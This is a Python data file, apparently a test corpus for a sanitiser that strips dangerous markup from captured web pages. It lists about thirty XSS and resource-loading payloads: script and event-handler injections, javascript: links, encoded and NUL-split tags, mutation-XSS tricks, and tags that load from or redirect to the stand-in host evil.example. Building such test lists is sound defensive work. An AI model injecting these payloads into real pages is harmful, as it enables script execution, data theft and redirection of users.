"""What strangers put into pages so that looking at a capture would run, load or lead to something."""

ATTACKS = {
    "script": "<script>steal()</script>",
    "script_in_svg": "<svg><script>steal()</script></svg>",
    "svg_onload": "<svg onload=steal()><animate onbegin=steal() attributeName=x></svg>",
    "onerror": "<img src=x onerror=steal()>",
    "unquoted": "<img/src=`x`onerror=steal()//",
    "link": '<a href="javascript:steal()">here</a><a href="https://evil.example/">there</a>',
    "link_coded": '<a href="&#106;ava&#x09;script:steal()">here</a>',
    "link_end": """<a href='"><script>steal()</script><p title="'>here</a>""",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><base target=_top>',
    "form": (
        '<form action="https://evil.example/" id=f><input name=a autofocus onfocus=steal()><button form=f>go</button>'
    ),
    "style": "<style>@import url(https://evil.example/); body { background: url(https://evil.example/) }</style>",
    "style_attribute": '<p style="background: url(https://evil.example/)">x</p>',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=prefetch href=//evil.example>',
    "frame": '<iframe src="https://evil.example/" srcdoc="<script>steal()</script>"></iframe>',
    "frameset": '<frameset><frame src="https://evil.example/"></frameset>',
    "object": '<object data="https://evil.example/"><embed src="https://evil.example/"></object>',
    "media": (
        '<video src="https://evil.example/" poster="https://evil.example/" onerror=steal()>'
        "</video><audio src=//evil.example>"
    ),
    "picture": (
        '<picture><source srcset="https://evil.example/ 2x">'
        '<img srcset="https://evil.example/" alt="A crowd"></picture>'
    ),
    "noscript": '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    "mutation_style": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=steal()&gt;">'
    ),
    "mutation_form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    "mutation_svg": '<svg></p><style><a id="</style><img src=1 onerror=steal()>">',
    "mutation_title": "<title><svg><title></title><img src onerror=steal()>",
    "comment": (
        "<!--><script>steal()</script>--><!--[if IE]><script>steal()</script>"
        "<![endif]--><![CDATA[<script>steal()</script>]]>"
    ),
    "textarea": "<textarea><img title='</textarea><img src onerror=steal()>'></textarea>",
    "template": "<template><script>steal()</script></template><xmp><script>steal()</script></xmp><plaintext><script>",
    "attribute_end": (
        '<p title=\'"><script>steal()</script>\' lang="x&quot;onclick=steal()" dir="ltr onclick=steal()">x</p>'
    ),
    "nested": "<scr<script>ipt>steal()</scr</script>ipt>",
    "nul": "<scr\x00ipt>steal()</scr\x00ipt><img src=x one\x00rror=steal()>",
    "overlong": "<" + "a" * 5000 + " onclick=steal()>x",
}
